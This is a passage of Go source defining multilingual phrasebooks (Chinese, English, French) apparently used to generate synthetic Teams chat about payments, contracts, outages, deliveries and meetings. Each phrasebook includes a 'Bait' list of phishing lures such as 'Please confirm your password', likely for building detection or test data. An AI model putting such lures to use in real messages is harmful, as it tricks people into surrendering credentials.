			Subjects: []string{"新需求评估：报表按班组导出"},
			Files:    []string{"需求说明书_v{n}.docx", "{short}_需求清单.xlsx"},
		},
		topicMeeting: {
			Say: []string{"下周二上午十点和{short}开项目周会，线上 Teams。", "明天{time}的会议改成线上了，链接稍后发。",
				"季度业务回顾会定在{date}，我们这边总监也会参加。"},
			Ask:      []string{"{date}下午方便开个会吗？", "会议纪要能发一下吗？", "周会要不要改到周四？"},
			Answer:   []string{"可以，我发个会议邀请。", "纪要已经发邮件了，请查收。", "周四下午我这边没问题。"},
			Subjects: []string{"季度业务回顾会议"},
			Files:    []string{"会议纪要_{year}{mm}.docx", "季度回顾_{short}.pptx"},
		},
	},
	Internal: topicPhrases{
		Say: []string{"{short}这个月回款又拖了，我担心年底续约有风险。", "{short}那边采购换人了，新对接人比较看重价格。",
			"报价能不能再降{pct}%？竞争对手给的价格比我们低不少。", "{product}的故障已经持续三天了，建议升级到总监层面。",
			"客户对上次交付延期不太满意，下次拜访我们带上技术负责人吧。", "我整理了{short}的风险清单，大家看看有没有遗漏。"},
		Ask: []string{"{short}的续约谈到什么程度了？", "这个客户的账期是多少天？", "要不要给{short}申请一个特价？",
			"{short}的投诉要不要升级到区域总监？"},
		Answer: []string{"问了财务，账期是60天。", "续约还在谈，主要卡在价格上。", "可以申请，不过要附上竞品报价。",
			"我先跟他们 IT 负责人沟通一下再说。", "同意升级，我来写邮件。"},
		Subjects: []string{"{short}续约风险", "{short}特价申请"},
	},
	Acks: []string{"收到，谢谢", "好的，我跟进一下", "明白，我这边安排。", "辛苦了！", "好的，没问题。", "谢谢，已确认。",
		"收到，我转给财务同事。", "好的，我下午回复您。", "了解，谢谢提醒。"},
	Share: []string{"附件请查收。", "文件已上传，请大家查阅。", "最新版本放这里了，有问题随时沟通。", "这是本周更新的资料，请查收。",
		"{short}的资料已更新，请以这一版为准。"},
	CaseNotes: []string{"CRM 里已经建了案例 {case}。", "对应案例 {case}，进展会同步更新。", "（案例 {case}）"},
	Notices: []notice{
		{Subject: "【通知】系统升级安排", Intro: "各位好，为提升{product}的稳定性，我们计划在以下时间进行系统升级：",
			Details: [][2]string{{"时间", "{date} 22:00 至次日 02:00"}, {"影响范围", "升级期间系统暂停访问，移动端同步会有延迟"}, {"升级版本", "{version}"}},
			Outro:   "如有疑问请在本频道留言，感谢配合！"},
		{Subject: "【通知】{version} 版本发布", Intro: "{product} {version} 已正式发布，本次更新主要包括：",
			Bullets: []string{"报表导出速度提升约{pct}%", "新增移动端审批功能", "修复若干已知问题"}, Outro: "详细的发布说明见附件。"},
		{Subject: "【通知】春节假期值班安排", Intro: "春节假期期间，技术支持安排如下：",
			Details: [][2]string{{"值班时间", "每天 9:00-18:00"}, {"紧急故障", "请在🐞频道发帖并 @值班工程师"}}, Outro: "提前祝大家新春快乐！"},
		{Subject: "【通知】机房网络维护", Intro: "本周六{time}起将对{city}机房的网络设备进行维护，预计持续两小时。",
			Outro: "维护期间网关数据会缓存在本地，恢复后自动补传，无需额外操作。"},
	},
	Issue: issueForm{Labels: [4]string{"错误码", "发生时间", "影响范围", "严重程度"}, Impact: "{city}现场约{n}名用户",
		Severity: []string{"高", "中", "低"}, StepsLead: "复现步骤：",
		Steps: []string{"登录{product}", "打开报表模块，选择本月数据", "点击“导出”，页面一直加载后报错"}},
	Tags:     []string{"付款", "技术故障", "合同", "交付", "发票", "培训", "需求"},
	LinkLead: "详细说明见：", LinkLabels: [2]string{"操作文档", "共享文件夹"}, DocsTitle: "Microsoft Teams 文档",
	Bait:             [4]string{"查看发票", "点击这里", "付款明细", "请输入密码确认身份"},
	EmojiTitles:      [4]string{"微笑", "赞", "大笑", "爱心"},
	CustomerFallback: "客户", ProductFallback: "系统", CityFallback: "总部",
}

// enBook is written in English.
var enBook = phrasebook{
	Lang: LangEN, Locale: "en-us", Sep: " ", Colon: ": ", Urgent: "[URGENT] ",
	Months: [12]string{"January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"},
	Topics: [topicCount]topicPhrases{
		topicPayment: {
			Tag: "payment",
			Say: []string{"The second instalment for {short} has gone to finance for approval; it should land by {date}.",
				"I've reconciled this month's statement. The {amount} gap is mostly freight and last month's returns.",
				"The invoice has been issued and the PDF is on its way to accounts payable.",
				"We still haven't received the third payment of {amount}. Could you check with your finance team?",
				"Updated the collections plan: {amount} due back by {date}."},
			Ask: []string{"When can the second instalment be scheduled?", "Which PO number should go on the invoice?",
				"What is the {amount} line on the statement for?", "Is the invoice due 30 or 60 days after delivery?"},
			Answer: []string{"Payment is in the approval queue and should be done this week.", "Please quote the PO from the signed order form.",
				"That's the replenishment order from {month}; the details are on page two.", "Finance confirms it was paid yesterday, remittance advice to follow."},
			Subjects: []string{"Second instalment schedule", "{month} statement sign-off"},
			Files:    []string{"{short}_Statement_{year}Q{q}.xlsx", "Invoice_INV-{n4}.pdf", "Payment_Schedule_{year}.xlsx"},
		},
		topicContract: {
			Tag: "contract",
			Say: []string{"The renewal draft for the {product} is with legal; we should have comments next week.",
				"Quote updated: {n} additional user licences, {amount} in total.", "Their legal team wants to reword clause 7 on acceptance criteria.",
				"We can go up to {pct}% off on the renewal; anything beyond needs director sign-off.", "The amendment is signed and the scan is in the shared folder."},
			Ask: []string{"Where are we with the renewal signature?", "How long is the quote valid for?",
				"Can the support term be extended to three years?", "How is pricing handled if we add users mid-term?"},
			Answer: []string{"The quote is valid for 30 days.", "Signature is in progress; the originals go out by {date}.",
				"Yes, but it needs a separate amendment.", "It's pro-rated for the remaining months. I'll get a quote over to you."},
			Subjects: []string{"{year} renewal", "Updated quote"},
			Files:    []string{"Quote_{short}_v{n}.pdf", "Master_Services_Agreement_{year}.docx", "Contract_Amendment_{n}.pdf"},
		},
		topicFault: {
			Tag: "outage",
			Say: []string{"Users at the {city} plant can't log in to the {product} since this morning; error code {code}.",
				"Line 3 is alarming and the gateway hasn't reported data for {n} minutes.",
				"We had an outage of about {n} minutes. Service is back, root cause still under investigation.",
				"Report export keeps spinning; the server log shows a {code} timeout.",
				"Cold-room temperature alerts are arriving late, so the on-call staff missed them."},
			Ask: []string{"What does error {code} mean? Should we restart the service?", "Is login working again on your side?",
				"Where can we change the alert thresholds?", "Is there a workaround for now?"},
			Answer: []string{"Found it: an expired certificate. We'll renew it tonight.", "We restarted the gateway service remotely and data is flowing again.",
				"Escalated to second-line support; you'll hear back by {time}.", "Could you send screenshots and the log file so we can reproduce it?",
				"The patch is deployed, please try again."},
			Subjects: []string{"Incident on the {product}", "Error {code} investigation"},
			Files:    []string{"Error_Log_{code}.csv", "Incident_Report_{short}.docx"},
		},
		topicDelivery: {
			Tag: "delivery",
			Say: []string{"The second batch has left the warehouse and should reach {city} by {date}.",
				"The carrier says the motorway is closed, so delivery may slip by two days.",
				"On-site acceptance is booked for {date}; we'll need a forklift and a contact on your side.",
				"{n} gateways signed for, one still in transit.", "Checked the packing list: two power cables were missing and have been re-sent."},
			Ask: []string{"Can this shipment arrive before {date}?", "What do we need to prepare for acceptance?",
				"Could you send me the tracking number?", "Can we get a morning delivery slot?"},
			Answer: []string{"The tracking number is in your inbox.", "I'll check the earliest slot with the carrier.",
				"Acceptance needs the delivery note, installation record and test report. I'll send the templates.", "Morning slot confirmed, 8:00 to 10:00."},
			Subjects: []string{"Second batch delivery", "Site acceptance plan"},
			Files:    []string{"Delivery_Note_{short}.xlsx", "Acceptance_Report_{year}.docx", "Shipping_Plan_{year}{mm}.xlsx"},
		},
		topicTraining: {
			Tag: "training",
			Say: []string{"The {product} user training is set for the afternoon of {date}, on Teams.",
				"Training videos are in the shared folder for new starters.", "We need {n} seats for the admin training; please send the attendee list."},
			Ask: []string{"Could the training be on site in {city}?", "Is there a user guide you can send in advance?", "Will the session be recorded?"},
			Answer: []string{"Yes, I'll post the recording link afterwards.", "On-site is possible with a week's notice.",
				"The guide is attached; chapter 3 covers daily operations."},
			Subjects: []string{"Training on the {product}"},
			Files:    []string{"User_Guide_{short}.pdf", "Training_Deck_{year}.pptx"},
		},
		topicRequirement: {
			Say: []string{"{short} has a new request: exporting reports by shift.", "Product management looked at mobile approvals; it's planned for the next release.",
				"The requirements document is now at version {n}, mostly interface changes."},
			Ask: []string{"Can this go live this quarter?", "Is custom development charged separately?", "Is there a newer version of the API spec?"},
			Answer: []string{"The estimate is about {n} person-days; I'll draft a proposal.", "That's standard functionality, it only needs configuring.",
				"The API spec is updated in the shared data channel."},
			Subjects: []string{"New requirement: report export by shift"},
			Files:    []string{"Requirements_v{n}.docx", "Feature_Requests_{short}.xlsx"},
		},
		topicMeeting: {
			Say: []string{"The weekly project call with {short} has moved to Tuesday 10:00.", "Tomorrow's {time} meeting is now on Teams; link to follow.",
				"The quarterly business review is on {date} and our director will join."},
			Ask:      []string{"Are you free for a call on the afternoon of {date}?", "Could you share the minutes?", "Shall we move the weekly call to Thursday?"},
			Answer:   []string{"Sure, I'll send an invite.", "The minutes went out by email.", "Thursday afternoon works for me."},
			Subjects: []string{"Quarterly business review"},
			Files:    []string{"Minutes_{year}{mm}.docx", "QBR_{short}.pptx"},
		},
	},
	Internal: topicPhrases{
		Say: []string{"{short} is late paying again this month; I'm worried about the renewal.",
			"Their procurement lead has changed and the new contact is very price-focused.",
			"Can we take another {pct}% off? The competitor quote is well below ours.",
			"The {product} issue has been open for three days; I'd escalate to director level.",
			"They weren't happy about the last delivery delay. Let's bring the tech lead to the next visit.",
			"I've put together a risk list for {short}; shout if I missed anything."},
		Ask: []string{"How far along is the {short} renewal?", "What are their payment terms?", "Should we request special pricing for {short}?",
			"Should the {short} complaint go to the regional director?"},
		Answer: []string{"Finance says their terms are 60 days.", "The renewal is still open; price is the sticking point.",
			"We can, but we need the competitor quote attached.", "I'll talk to their IT lead first.", "Agreed, I'll write the escalation email."},
		Subjects: []string{"{short} renewal risk", "Special pricing for {short}"},
	},
	Acks: []string{"Got it, thanks!", "Thanks, I'll follow up.", "Noted, will do.", "Perfect, thank you.", "OK, I'll get back to you this afternoon.",
		"Thanks for the heads-up.", "Confirmed on our side.", "Great, appreciate it."},
	Share: []string{"Please find the file attached.", "Uploaded the latest version here.", "Here's this week's update; shout if anything looks off.",
		"Sharing the updated files for {short}; please use this version."},
	CaseNotes: []string{"Logged as case {case} in CRM.", "See case {case} for the history.", "(case {case})"},
	Notices: []notice{
		{Subject: "Maintenance window", Intro: "Hi all, to improve the stability of the {product} we will upgrade the system at the following time:",
			Details: [][2]string{{"Time", "{date}, 22:00 – 02:00"}, {"Impact", "the system is unavailable during the upgrade and mobile sync will be delayed"}, {"Version", "{version}"}},
			Outro:   "Questions? Reply in this channel. Thanks!"},
		{Subject: "Release {version}", Intro: "Version {version} of the {product} is now available. Highlights:",
			Bullets: []string{"Report export about {pct}% faster", "Approvals on mobile", "Several bug fixes"}, Outro: "The full release notes are attached."},
		{Subject: "Holiday support schedule", Intro: "Over the holidays (24 December – 2 January) support runs as follows:",
			Details: [][2]string{{"Hours", "9:00–17:00 on working days"}, {"Urgent issues", "post in the 🐞 channel and @mention the on-call engineer"}},
			Outro:   "Happy holidays!"},
		{Subject: "Planned maintenance", Intro: "This Saturday from {time} we will service the network equipment at the {city} data centre; it should take two hours.",
			Outro: "Gateway data is buffered locally and uploaded automatically afterwards, no action needed."},
	},
	Issue: issueForm{Labels: [4]string{"Error code", "Occurred", "Impact", "Severity"}, Impact: "about {n} users at the {city} site",
		Severity: []string{"High", "Medium", "Low"}, StepsLead: "Steps to reproduce:",
		Steps: []string{"Sign in to the {product}", "Open Reports and select this month", "Click Export: the page spins, then fails"}},
	Tags:     []string{"payment", "outage", "contract", "delivery", "invoice", "training"},
	LinkLead: "Details here: ", LinkLabels: [2]string{"documentation", "shared folder"}, DocsTitle: "Microsoft Teams documentation",
	Bait:             [4]string{"View invoice", "Click here", "Payment details", "Please confirm your password"},
	EmojiTitles:      [4]string{"Smile", "Like", "Laugh", "Heart"},
	CustomerFallback: "the customer", ProductFallback: "platform", CityFallback: "head office",
}

// frBook is written in French.
var frBook = phrasebook{
	Lang: LangFR, Locale: "fr-fr", Sep: " ", Colon: " : ", Urgent: "[URGENT] ",
	Months: [12]string{"janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre", "octobre", "novembre", "décembre"},
	Topics: [topicCount]topicPhrases{
		topicPayment: {
			Tag: "paiement",
			Say: []string{"La deuxième échéance de {short} est partie en validation à la comptabilité, paiement prévu d'ici le {date}.",
				"J'ai rapproché le relevé du mois : l'écart de {amount} vient surtout du transport et des retours.",
				"La facture est émise, le PDF part aujourd'hui au service comptable.",
				"Nous n'avons toujours pas reçu le troisième règlement de {amount}. Pouvez-vous vérifier avec votre comptabilité ?",
				"Échéancier mis à jour : {amount} à encaisser avant le {date}."},
			Ask: []string{"Quand pourrez-vous programmer la deuxième échéance ?", "Quel numéro de bon de commande faut-il indiquer sur la facture ?",
				"À quoi correspond la ligne de {amount} sur le relevé ?", "La facture est-elle payable à 30 ou à 60 jours ?"},
			Answer: []string{"Le paiement est en cours de validation, ce sera fait cette semaine.", "Merci d'indiquer le numéro du bon de commande signé.",
				"C'est la commande de réassort de {month}, le détail est en page deux.", "La compta confirme le virement d'hier, l'avis de paiement suit."},
			Subjects: []string{"Échéancier de paiement", "Relevé de {month} à valider"},
			Files:    []string{"Releve_{short}_{year}T{q}.xlsx", "Facture_F{n4}.pdf", "Echeancier_{year}.xlsx"},
		},
		topicContract: {
			Tag: "contrat",
			Say: []string{"Le projet de renouvellement pour {product} est chez le juridique, retour attendu la semaine prochaine.",
				"Devis mis à jour : {n} licences supplémentaires, {amount} au total.", "Leur juriste souhaite reformuler l'article 7 sur les critères de recette.",
				"On peut aller jusqu'à {pct} % de remise sur le renouvellement ; au-delà, il faut l'accord du directeur.",
				"L'avenant est signé, le scan est dans le dossier partagé."},
			Ask: []string{"Où en est la signature du renouvellement ?", "Quelle est la durée de validité du devis ?",
				"Peut-on prolonger la maintenance à trois ans ?", "Comment sont facturés les utilisateurs ajoutés en cours de contrat ?"},
			Answer: []string{"Le devis est valable 30 jours.", "La signature est en cours, les originaux partent d'ici le {date}.",
				"Oui, mais il faut un avenant séparé.", "C'est au prorata des mois restants, je vous envoie un devis."},
			Subjects: []string{"Renouvellement {year}", "Devis mis à jour"},
			Files:    []string{"Contrat_cadre_v{n}.pdf", "Devis_{short}_{year}.pdf", "Avenant_{n}.docx"},
		},
		topicFault: {
			Tag: "panne",
			Say: []string{"Panne sur {product} depuis ce matin à {city} : connexion impossible, code d'erreur {code}.",
				"La ligne 3 est en alarme et la passerelle ne remonte plus de données depuis {n} minutes.",
				"Coupure d'environ {n} minutes, le service est rétabli et la cause est en cours d'analyse.",
				"L'export des rapports tourne dans le vide ; le journal du serveur indique un délai dépassé ({code}).",
				"Les alertes de température de la chambre froide arrivent en retard, l'astreinte ne les a pas vues."},
			Ask: []string{"Que signifie l'erreur {code} ? Faut-il redémarrer le service ?", "La connexion fonctionne-t-elle de nouveau chez vous ?",
				"Où peut-on modifier les seuils d'alerte ?", "Y a-t-il un contournement en attendant ?"},
			Answer: []string{"Cause identifiée : un certificat expiré, nous le renouvelons ce soir.",
				"Nous avons redémarré la passerelle à distance, les données remontent de nouveau.", "Escaladé au support de niveau 2, retour avant {time}.",
				"Pouvez-vous envoyer des captures d'écran et le journal pour que nous reproduisions le problème ?", "Le correctif est déployé, merci de réessayer."},
			Subjects: []string{"Incident sur {product}", "Erreur {code}"},
			Files:    []string{"Journal_erreurs_{code}.csv", "Rapport_incident_{short}.docx"},
		},
		topicDelivery: {
			Tag: "livraison",
			Say: []string{"Le deuxième lot a quitté l'entrepôt, livraison prévue à {city} le {date}.",
				"Le transporteur signale une autoroute fermée, la livraison risque d'avoir deux jours de retard.",
				"La recette sur site est prévue le {date} ; il nous faudra un chariot élévateur et un interlocuteur chez vous.",
				"{n} passerelles réceptionnées, une est encore en transit.", "Bordereau vérifié : il manquait deux câbles d'alimentation, ils sont renvoyés."},
			Ask: []string{"Cette livraison peut-elle arriver avant le {date} ?", "Que faut-il préparer pour la recette ?",
				"Pouvez-vous m'envoyer le numéro de suivi ?", "Peut-on avoir un créneau de livraison le matin ?"},
			Answer: []string{"Le numéro de suivi est dans votre boîte mail.", "Je vérifie le premier créneau possible avec le transporteur.",
				"Pour la recette : bon de livraison, fiche d'installation et rapport de tests. Je vous envoie les modèles.", "Créneau du matin confirmé, de 8 h à 10 h."},
			Subjects: []string{"Livraison du deuxième lot", "Planning de recette"},
			Files:    []string{"Bon_de_livraison_{short}.pdf", "PV_de_recette_{year}.docx", "Planning_livraisons_{year}{mm}.xlsx"},
		},
		topicTraining: {
			Tag: "formation",
			Say: []string{"La formation des utilisateurs sur {product} est prévue le {date} après-midi sur Teams.",
				"Les vidéos de formation sont dans le dossier partagé pour les nouveaux arrivants.",
				"Il nous faut {n} places pour la formation administrateur, merci d'envoyer la liste des participants."},
			Ask: []string{"La formation peut-elle avoir lieu sur site à {city} ?", "Avez-vous un guide utilisateur à nous transmettre avant ?",
				"La session sera-t-elle enregistrée ?"},
			Answer: []string{"Oui, je partagerai le lien de l'enregistrement après la session.", "Sur site, c'est possible avec une semaine de préavis.",
				"Le guide est en pièce jointe, le chapitre 3 couvre l'exploitation quotidienne."},
			Subjects: []string{"Formation : {product}"},
			Files:    []string{"Guide_utilisateur_{short}.pdf", "Support_formation_{year}.pptx"},
		},
		topicRequirement: {
			Say: []string{"{short} a une nouvelle demande : exporter les rapports par équipe.",
				"Les chefs de produit ont étudié la validation sur mobile : elle est prévue pour la prochaine version.",
				"Le cahier des charges est passé en version {n}, surtout des changements d'interface."},
			Ask: []string{"Est-ce que cela peut être en production ce trimestre ?", "Le développement spécifique est-il facturé à part ?",
				"Y a-t-il une version plus récente de la spécification de l'API ?"},
			Answer: []string{"Estimation : environ {n} jours-homme, je prépare une proposition.", "C'est une fonction standard, il suffit de la paramétrer.",
				"La spécification de l'API est à jour dans le canal des données partagées."},
			Subjects: []string{"Nouvelle demande : export des rapports par équipe"},
			Files:    []string{"Cahier_des_charges_v{n}.docx", "Demandes_evolution_{short}.xlsx"},
		},
		topicMeeting: {
			Say: []string{"Le point hebdomadaire avec {short} est déplacé à mardi 10 h.", "La réunion de demain à {time} passe sur Teams, le lien suit.",
				"La revue trimestrielle est fixée au {date}, notre directeur sera présent."},
			Ask:      []string{"Êtes-vous disponible le {date} après-midi pour un appel ?", "Pouvez-vous partager le compte rendu ?", "On décale le point hebdo au jeudi ?"},
			Answer:   []string{"Bien sûr, je vous envoie une invitation.", "Le compte rendu est parti par e-mail.", "Jeudi après-midi, ça me va."},
			Subjects: []string{"Revue trimestrielle"},
			Files:    []string{"Compte_rendu_{year}{mm}.docx", "Revue_trimestrielle_{short}.pptx"},
		},
	},
	Internal: topicPhrases{
		Say: []string{"{short} paie encore en retard ce mois-ci, je m'inquiète pour le renouvellement.",
			"Leur responsable achats a changé et le nouvel interlocuteur regarde surtout le prix.",
			"Peut-on descendre encore de {pct} % ? Le concurrent est bien en dessous.",
			"L'incident sur {product} dure depuis trois jours, je propose d'escalader au niveau de la direction.",
			"Ils n'ont pas apprécié le dernier retard de livraison. Emmenons le responsable technique à la prochaine visite.",
			"J'ai préparé une liste des risques pour {short}, dites-moi s'il manque quelque chose."},
		Ask: []string{"Où en est le renouvellement de {short} ?", "Quelles sont leurs conditions de paiement ?", "Faut-il demander un prix spécial pour {short} ?",
			"Doit-on remonter la réclamation de {short} au directeur régional ?"},
		Answer: []string{"D'après la compta, c'est 60 jours.", "Le renouvellement est toujours ouvert, ça bloque sur le prix.",
			"Oui, mais il faut joindre le devis du concurrent.", "Je vais d'abord parler à leur responsable informatique.", "D'accord, je rédige le mail d'escalade."},
		Subjects: []string{"Risque sur le renouvellement {short}", "Prix spécial pour {short}"},
	},
	Acks: []string{"Bien reçu, merci !", "Merci, je m'en occupe.", "C'est noté.", "Parfait, merci beaucoup.", "D'accord, je reviens vers vous cet après-midi.",
		"Merci pour l'info.", "Confirmé de notre côté.", "Très bien, merci."},
	Share: []string{"Vous trouverez le fichier ci-joint.", "J'ai déposé la dernière version ici.",
		"Voici la mise à jour de la semaine, n'hésitez pas si quelque chose cloche.", "Documents à jour pour {short}, merci d'utiliser cette version."},
	CaseNotes: []string{"Dossier {case} ouvert dans le CRM.", "Voir le dossier {case} pour l'historique.", "(dossier {case})"},
	Notices: []notice{
		{Subject: "Maintenance planifiée", Intro: "Bonjour à tous, pour améliorer la stabilité de {product}, une mise à jour est prévue :",
			Details: [][2]string{{"Date", "{date}, de 22 h à 2 h"}, {"Impact", "système indisponible pendant l'intervention, synchronisation mobile retardée"}, {"Version", "{version}"}},
			Outro:   "Pour toute question, répondez dans ce canal. Merci !"},
		{Subject: "Version {version} disponible", Intro: "La version {version} de {product} est disponible. Au programme :",
			Bullets: []string{"Export des rapports environ {pct} % plus rapide", "Validation sur mobile", "Plusieurs corrections d'anomalies"},
			Outro:   "Les notes de version complètes sont en pièce jointe."},
		{Subject: "Permanence pendant les fêtes", Intro: "Pendant les fêtes (du 24 décembre au 2 janvier), le support fonctionnera ainsi :",
			Details: [][2]string{{"Horaires", "de 9 h à 17 h les jours ouvrés"}, {"Urgences", "publiez dans le canal 🐞 et mentionnez l'ingénieur d'astreinte"}},
			Outro:   "Bonnes fêtes à tous !"},
		{Subject: "Intervention réseau", Intro: "Samedi à partir de {time}, nous intervenons sur les équipements réseau du centre de données de {city}, pour environ deux heures.",
			Outro: "Les données des passerelles sont conservées localement puis renvoyées automatiquement."},
	},
	Issue: issueForm{Labels: [4]string{"Code d'erreur", "Survenu le", "Impact", "Gravité"}, Impact: "environ {n} utilisateurs sur le site de {city}",
		Severity: []string{"Haute", "Moyenne", "Faible"}, StepsLead: "Étapes pour reproduire :",
		Steps: []string{"Se connecter à {product}", "Ouvrir les rapports et choisir le mois en cours", "Cliquer sur Exporter : chargement sans fin, puis erreur"}},
	Tags:     []string{"paiement", "panne", "contrat", "livraison", "facture", "formation"},
	LinkLead: "Détails ici : ", LinkLabels: [2]string{"documentation", "dossier partagé"}, DocsTitle: "Documentation Microsoft Teams",
	Bait:             [4]string{"Voir la facture", "Cliquez ici", "Détail du paiement", "Merci de confirmer votre mot de passe"},
	EmojiTitles:      [4]string{"Sourire", "J'aime", "Rire", "Cœur"},
	CustomerFallback: "le client", ProductFallback: "la plateforme", CityFallback: "siège",
}
